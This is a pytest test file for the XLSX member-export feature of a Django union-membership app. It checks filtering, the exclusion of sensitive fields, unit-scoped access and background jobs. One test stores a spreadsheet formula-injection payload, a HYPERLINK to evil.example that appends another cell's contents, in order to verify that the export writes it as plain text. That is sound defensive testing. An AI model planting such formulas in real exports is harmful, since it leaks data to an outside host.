"""XLSX export: exactly the filtered list, scoped; big lists go through a background job."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from unionhub.core import jobs
from unionhub.core.models import Job
from unionhub.members import views


def _names(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    return [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]


@pytest.fixture
def roster(tree, admit):
    return [
        admit(full_name="Nguyễn Thị Hoa", gender="female"),
        admit(full_name="Trần Văn Bình"),
        admit(full_name="Lê Thị Ánh", gender="female", unit=tree.grassroots_a2),
        admit(full_name="Phan Văn Cường", unit=tree.grassroots_b1),
    ]


def test_export_is_exactly_the_filtered_list_in_order(client, tree, roster, officer_at):
    client.force_login(officer_at(tree.district_a, "registrar"))
    response = client.get(
        reverse("members:unit_export", args=[tree.district_a.pk]), {"gender": "female"}
    )
    assert response.status_code == 200
    assert _names(b"".join(response.streaming_content)) == ["Lê Thị Ánh", "Nguyễn Thị Hoa"]


def test_export_leaves_out_sensitive_fields(client, tree, admit, registrar_a):
    admit(ethnicity="Mường", religion="Công giáo")
    client.force_login(registrar_a)
    content = b"".join(client.get(reverse("members:export")).streaming_content)
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    cells = {str(c) for row in sheet.iter_rows(values_only=True) for c in row}
    assert "Mường" not in cells and "Công giáo" not in cells


def test_officer_of_another_unit_cannot_export_it(client, tree, roster, registrar_b):
    client.force_login(registrar_b)
    refused = client.get(reverse("members:unit_export", args=[tree.grassroots_a1.pk]))
    assert refused.status_code == 403
    mine = client.get(reverse("members:export"))
    assert _names(b"".join(mine.streaming_content)) == ["Phan Văn Cường"]


def test_big_export_runs_as_a_job_with_the_same_rows(
    client, tree, roster, registrar_a, monkeypatch, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    monkeypatch.setattr(views, "EXPORT_INLINE_MAX", 1)
    client.force_login(registrar_a)
    response = client.get(reverse("members:export"), {"sort": "-name"})
    job = Job.objects.get()
    assert response.status_code == 302 and str(job.pk) in response["Location"]
    job = jobs.job_run(str(job.pk))
    assert job.status == "done", job.message
    assert _names(job.result_file.read()) == ["Nguyễn Thị Hoa", "Trần Văn Bình"]  # Hoa > Bình


def test_an_address_written_as_a_formula_is_exported_as_text(client, tree, admit, registrar_a):
    hostile = '=HYPERLINK("http://evil.example/?"&F2, "Bấm vào đây")'
    admit(address=hostile)
    client.force_login(registrar_a)
    content = b"".join(client.get(reverse("members:export")).streaming_content)
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    address = next(c for c in cells if c.value == hostile)
    assert address.data_type == "s" and address.quotePrefix
    assert not any(c.data_type == "f" for c in cells)
